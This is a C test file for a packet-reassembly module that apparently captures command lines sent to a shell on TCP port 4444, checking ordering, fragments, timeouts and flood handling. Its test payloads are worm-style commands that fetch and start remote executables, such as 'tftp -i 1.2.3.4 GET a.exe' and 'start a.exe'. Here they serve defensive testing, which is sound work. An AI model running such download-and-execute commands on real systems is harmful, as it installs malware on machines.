/*
 * Reassembly: packets built by hand go through ws_reasm_feed; we check the
 * lines that come out, their timestamps and the counters.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "reassembly.h"

#define MAX_LINE 64
#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10

struct seen {
	char text[MAX_LINE + 1];
	long sec;
	uint16_t sport;
	unsigned nth;	/* lines this stream had delivered before, from flow_user */
};

static struct seen lines[4096];
static size_t nlines;
static int failures;

#define CHECK(cond, ...) do { if (!(cond)) { failures++; \
	fprintf(stderr, "FAIL %s:%d: ", __FILE__, __LINE__); \
	fprintf(stderr, __VA_ARGS__); fputc('\n', stderr); } } while (0)

static void on_line(void *arg, const struct ws_flow_key *k, void *user, const char *line,
		    size_t len, const struct timeval *ts)
{
	unsigned *count = user;

	(void)arg;
	if (nlines == sizeof(lines) / sizeof(lines[0]))
		return;
	memcpy(lines[nlines].text, line, len);
	lines[nlines].text[len] = '\0';
	lines[nlines].sec = (long)ts->tv_sec;
	lines[nlines].sport = k->sport;
	lines[nlines].nth = (*count)++;
	nlines++;
}

struct conn {
	uint32_t cli, srv;	/* host order */
	uint16_t cport, sport;
	uint32_t cseq, sseq;
};

static uint16_t csum(const uint8_t *p, size_t n)
{
	uint32_t s = 0;

	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/* IPv4 packet; frag_off in 8-byte units, mf = more fragments. */
static size_t ip_packet(uint8_t *pkt, uint32_t src, uint32_t dst, uint16_t id, uint16_t frag_off,
			int mf, const uint8_t *payload, size_t plen)
{
	uint16_t tot = (uint16_t)(20 + plen), ck;
	uint32_t s = htonl(src), d = htonl(dst);

	memset(pkt, 0, 20);
	pkt[0] = 0x45;
	pkt[2] = (uint8_t)(tot >> 8);
	pkt[3] = (uint8_t)tot;
	pkt[4] = (uint8_t)(id >> 8);
	pkt[5] = (uint8_t)id;
	pkt[6] = (uint8_t)((mf ? 0x20 : 0) | (frag_off >> 8));
	pkt[7] = (uint8_t)frag_off;
	pkt[8] = 64;
	pkt[9] = IPPROTO_TCP;
	memcpy(pkt + 12, &s, 4);
	memcpy(pkt + 16, &d, 4);
	ck = csum(pkt, 20);
	pkt[10] = (uint8_t)(ck >> 8);
	pkt[11] = (uint8_t)ck;
	memcpy(pkt + 20, payload, plen);
	return tot;
}

static size_t tcp_segment(uint8_t *seg, uint16_t sp, uint16_t dp, uint32_t seq, uint32_t ack,
			  uint8_t flags, const char *data, size_t len)
{
	memset(seg, 0, 20);
	seg[0] = (uint8_t)(sp >> 8);
	seg[1] = (uint8_t)sp;
	seg[2] = (uint8_t)(dp >> 8);
	seg[3] = (uint8_t)dp;
	for (int i = 0; i < 4; i++) {
		seg[4 + i] = (uint8_t)(seq >> (24 - 8 * i));
		seg[8 + i] = (uint8_t)(ack >> (24 - 8 * i));
	}
	seg[12] = 5 << 4;
	seg[13] = flags;
	seg[14] = 0xfa;		/* window 64000 */
	seg[15] = 0;
	memcpy(seg + 20, data, len);
	return 20 + len;
}

static void feed(long sec, const uint8_t *pkt, size_t len)
{
	struct timeval tv = {.tv_sec = sec, .tv_usec = 0};

	ws_reasm_sweep(&tv);
	ws_reasm_feed(&tv, pkt, len);
}

/* One TCP packet from the client (dir 0) or the server (dir 1). */
static void send_tcp(struct conn *c, int from_server, long sec, uint8_t flags, const char *data,
		     size_t len, uint32_t seq)
{
	uint8_t seg[2048], pkt[2100];
	size_t sl, pl;

	if (from_server)
		sl = tcp_segment(seg, c->sport, c->cport, seq, c->cseq, flags, data, len);
	else
		sl = tcp_segment(seg, c->cport, c->sport, seq, c->sseq, flags, data, len);
	pl = ip_packet(pkt, from_server ? c->srv : c->cli, from_server ? c->cli : c->srv, 1, 0, 0,
		       seg, sl);
	feed(sec, pkt, pl);
}

static void client_data(struct conn *c, long sec, const char *s)
{
	size_t n = strlen(s);

	send_tcp(c, 0, sec, TH_ACK | TH_PSH, s, n, c->cseq);
	c->cseq += (uint32_t)n;
}

static void handshake(struct conn *c, long sec)
{
	send_tcp(c, 0, sec, TH_SYN, "", 0, c->cseq - 1);
	send_tcp(c, 1, sec, TH_SYN | TH_ACK, "", 0, c->sseq - 1);
	send_tcp(c, 0, sec, TH_ACK, "", 0, c->cseq);
}

static struct conn conn_new(uint16_t cport, uint16_t sport)
{
	struct conn c = {
		.cli = 0x51847efe,	/* 81.132.114.254 */
		.srv = 0x0a000005,	/* 10.0.0.5 */
		.cport = cport, .sport = sport,
		.cseq = 1000001, .sseq = 5000001,
	};
	return c;
}

static size_t count_text(const char *text)
{
	size_t n = 0;

	for (size_t i = 0; i < nlines; i++)
		n += strcmp(lines[i].text, text) == 0;
	return n;
}

static const struct seen *find_text(const char *text)
{
	for (size_t i = 0; i < nlines; i++)
		if (strcmp(lines[i].text, text) == 0)
			return &lines[i];
	return NULL;
}

static void test_basic_and_split(void)
{
	struct conn c = conn_new(1025, 4444);
	const struct seen *l;

	handshake(&c, 100);
	client_data(&c, 101, "tftp -i 1.2.3.4 ");
	client_data(&c, 102, "GET a.exe\r\nstart a.exe\n");
	l = find_text("tftp -i 1.2.3.4 GET a.exe\r");
	CHECK(l != NULL, "split line with CR not delivered whole");
	CHECK(l && l->sec == 102, "line time is that of the completing packet");
	CHECK(l && l->nth == 0, "flow_user starts zeroed");
	l = find_text("start a.exe");
	CHECK(l && l->nth == 1, "flow_user persists across lines of a stream");
}

static void test_midstream(void)
{
	struct conn c = conn_new(1026, 4444);
	uint64_t before = ws_reasm_stats()->pickups;

	client_data(&c, 110, "echo mid\n");
	client_data(&c, 111, "echo mid2\n");
	CHECK(count_text("echo mid") == 1 && count_text("echo mid2") == 1,
	      "mid-stream session not picked up");
	CHECK(ws_reasm_stats()->pickups == before + 1, "mid-stream pickup counted once");
}

static void test_out_of_order_and_duplicates(void)
{
	struct conn c = conn_new(1027, 4444);
	uint32_t base;

	handshake(&c, 120);
	base = c.cseq;
	/* the second half arrives first, and the first segment ever seen */
	send_tcp(&c, 0, 121, TH_ACK, "GET b.exe\n", 10, base + 16);
	send_tcp(&c, 0, 122, TH_ACK, "tftp -i 1.2.3.4 ", 16, base);
	send_tcp(&c, 0, 123, TH_ACK, "tftp -i 1.2.3.4 ", 16, base);	/* duplicate */
	send_tcp(&c, 0, 124, TH_ACK, "GET b.exe\n", 10, base + 16);	/* retransmission */
	CHECK(count_text("tftp -i 1.2.3.4 GET b.exe") == 1, "out-of-order line lost or doubled");
	CHECK(find_text("tftp -i 1.2.3.4 GET b.exe") &&
	      find_text("tftp -i 1.2.3.4 GET b.exe")->sec == 122, "hole filler time");
}

static void test_overlong(void)
{
	struct conn c = conn_new(1028, 4444);
	char exact[MAX_LINE + 2], over[MAX_LINE + 3];
	uint64_t before = ws_reasm_stats()->overlong;

	memset(exact, 'x', MAX_LINE);
	exact[MAX_LINE] = '\n';
	exact[MAX_LINE + 1] = '\0';
	memset(over, 'y', MAX_LINE + 1);
	over[MAX_LINE + 1] = '\n';
	over[MAX_LINE + 2] = '\0';
	handshake(&c, 130);
	client_data(&c, 131, exact);
	client_data(&c, 132, over);
	client_data(&c, 133, "after\n");
	exact[MAX_LINE] = '\0';
	CHECK(count_text(exact) == 1, "line of exactly max_line bytes must be kept");
	CHECK(ws_reasm_stats()->overlong == before + 1, "overlong line counted");
	CHECK(count_text("after") == 1, "line after an overlong one");
	for (size_t i = 0; i < nlines; i++)
		CHECK(lines[i].text[0] != 'y', "overlong line delivered");
}

/*
 * A gap in the client's bytes (the server ACKs bytes never seen) cuts the
 * line being typed: dropped up to its newline and counted once as a partial
 * line, not as an overlong one, and not again when the flow ends first.
 */
static void test_gap_cuts_line(void)
{
	struct conn a = conn_new(1031, 4444), b = conn_new(1032, 4444);
	uint64_t overlong = ws_reasm_stats()->overlong;
	uint64_t dropped = ws_reasm_stats()->partial_dropped;

	handshake(&a, 135);
	client_data(&a, 135, "cd \\\n");	/* a complete line: followed as a stream from here */
	client_data(&a, 135, "tftp -i 1.2.3.4 GET ");
	a.cseq += 4;	/* 4 bytes never reach us */
	client_data(&a, 136, "x.exe\n");	/* queued beyond the hole */
	send_tcp(&a, 1, 136, TH_ACK, "", 0, a.sseq);	/* the server had them all */
	client_data(&a, 137, "after gap\n");
	CHECK(count_text("after gap") == 1 && !find_text("x.exe") &&
	      !find_text("tftp -i 1.2.3.4 GET "), "the cut line dropped, the next one kept");
	CHECK(ws_reasm_stats()->partial_dropped == dropped + 1 &&
	      ws_reasm_stats()->overlong == overlong,
	      "a cut line is one partial line, not overlong (partial +%llu, overlong +%llu)",
	      (unsigned long long)(ws_reasm_stats()->partial_dropped - dropped),
	      (unsigned long long)(ws_reasm_stats()->overlong - overlong));

	handshake(&b, 138);
	client_data(&b, 138, "cd \\\n");
	client_data(&b, 138, "start ");
	b.cseq += 3;
	client_data(&b, 139, "y.exe");
	send_tcp(&b, 1, 139, TH_ACK, "", 0, b.sseq);
	send_tcp(&b, 0, 139, TH_ACK | TH_FIN, "", 0, b.cseq);
	send_tcp(&b, 1, 139, TH_ACK | TH_FIN, "", 0, b.sseq);
	CHECK(!find_text("y.exe") && !find_text("start "), "no line from a cut one at FIN");
	CHECK(ws_reasm_stats()->partial_dropped == dropped + 2,
	      "a cut line without newline counted once (partial +%llu, want 2 in all)",
	      (unsigned long long)(ws_reasm_stats()->partial_dropped - dropped));
}

static void test_fin_and_rst(void)
{
	struct conn f = conn_new(1029, 4444), r = conn_new(1030, 4444);
	uint64_t dropped = ws_reasm_stats()->partial_dropped;

	handshake(&f, 140);
	client_data(&f, 141, "msblast.exe");
	send_tcp(&f, 0, 142, TH_ACK | TH_FIN, "", 0, f.cseq);
	CHECK(find_text("msblast.exe") && find_text("msblast.exe")->sec == 142,
	      "unterminated line at client FIN must be delivered at the FIN's time");

	handshake(&r, 143);
	client_data(&r, 144, "start reset.exe");
	send_tcp(&r, 0, 145, TH_RST, "", 0, r.cseq);
	CHECK(count_text("start reset.exe") == 0, "partial line at RST must be dropped");
	CHECK(ws_reasm_stats()->partial_dropped == dropped + 1, "RST drop counted");
}

static void test_ignored_traffic(void)
{
	struct conn web = conn_new(1031, 80), c = conn_new(1032, 4444);

	handshake(&web, 150);
	client_data(&web, 151, "tftp -i 1.2.3.4 GET web.exe\n");
	CHECK(count_text("tftp -i 1.2.3.4 GET web.exe") == 0, "port 80 is not watched");
	handshake(&c, 152);
	send_tcp(&c, 1, 153, TH_ACK | TH_PSH, "banner\n", 7, c.sseq);
	CHECK(count_text("banner") == 0, "server->client data is not followed");
}

static void test_fragments(void)
{
	struct conn c = conn_new(1033, 4444);
	const char *text = "tftp -i 9.9.9.9 GET frag.exe\n";
	uint8_t seg[128], pkt[200];
	size_t sl, pl;

	handshake(&c, 160);
	sl = tcp_segment(seg, c.cport, c.sport, c.cseq, c.sseq, TH_ACK, text, strlen(text));
	/* second fragment first: bytes 24.. then 0..23 */
	pl = ip_packet(pkt, c.cli, c.srv, 77, 3, 0, seg + 24, sl - 24);
	feed(161, pkt, pl);
	pl = ip_packet(pkt, c.cli, c.srv, 77, 0, 1, seg, 24);
	feed(162, pkt, pl);
	CHECK(count_text("tftp -i 9.9.9.9 GET frag.exe") == 1, "IP fragments not reassembled");
}

static void test_idle_timeout(void)
{
	struct conn c = conn_new(1034, 4444);
	uint64_t expired = ws_reasm_stats()->idle_expired;
	struct timeval later = {.tv_sec = 170 + 61, .tv_usec = 0};

	handshake(&c, 169);
	client_data(&c, 170, "pending");
	ws_reasm_sweep(&later);
	CHECK(ws_reasm_stats()->idle_expired > expired, "idle stream not expired");
	client_data(&c, 232, "\n");	/* the stream is new to us again: no old bytes */
	CHECK(count_text("pending") == 0, "expired partial line must not resurface");
}

static void test_scan_flood(void)
{
	struct timeval t300 = {.tv_sec = 300, .tv_usec = 0};
	struct conn late = conn_new(1035, 4444);
	size_t active;

	ws_reasm_sweep(&t300);	/* so only the flood can change the count */
	active = ws_reasm_active_streams();

	for (uint32_t i = 0; i < 20000; i++) {
		struct conn s = conn_new((uint16_t)(2000 + i % 60000), 4444);

		s.cli = 0xc6336400 + i;	/* thousands of sources */
		send_tcp(&s, 0, 300, TH_SYN, "", 0, s.cseq - 1);
	}
	CHECK(ws_reasm_active_streams() == active, "SYN scan must not create streams");
	handshake(&late, 301);
	client_data(&late, 302, "after the flood\n");
	CHECK(count_text("after the flood") == 1, "session after a SYN flood");
}

static void test_eviction(void)
{
	uint64_t before = ws_reasm_stats()->evictions;

	for (uint16_t i = 0; i < 64; i++) {
		struct conn c = conn_new((uint16_t)(40000 + i), 4444);

		handshake(&c, 400);
		client_data(&c, 400, "x");	/* two segments: a session, not a one-shot source */
		client_data(&c, 400, "y");
	}
	CHECK(ws_reasm_stats()->evictions > before, "a full table must evict (and count it)");
	CHECK(ws_reasm_active_streams() <= 40, "streams bounded by max_streams (got %zu)",
	      ws_reasm_active_streams());
}

int main(void)
{
	static const uint16_t ports[] = {4444};
	char err[256];
	struct ws_reasm_params p = {
		.ports = ports, .nports = 1, .max_streams = 32, .max_line = MAX_LINE,
		.idle_timeout = 60, .flow_user_size = sizeof(unsigned), .on_line = on_line,
		.checksums = WS_CSUM_OFF,	/* these packets carry no checksums */
	};

	if (ws_reasm_init(&p, err, sizeof(err)) < 0) {
		fprintf(stderr, "init: %s\n", err);
		return 1;
	}
	test_basic_and_split();
	test_midstream();
	test_out_of_order_and_duplicates();
	test_overlong();
	test_gap_cuts_line();
	test_fin_and_rst();
	test_ignored_traffic();
	test_fragments();
	test_idle_timeout();
	test_scan_flood();
	test_eviction();
	ws_reasm_finish();
	CHECK(ws_reasm_active_streams() == 0, "finish frees every stream");
	if (failures)
		fprintf(stderr, "%d check(s) failed\n", failures);
	else
		printf("reassembly: all checks passed (%zu lines seen)\n", nlines);
	return failures ? 1 : 0;
}
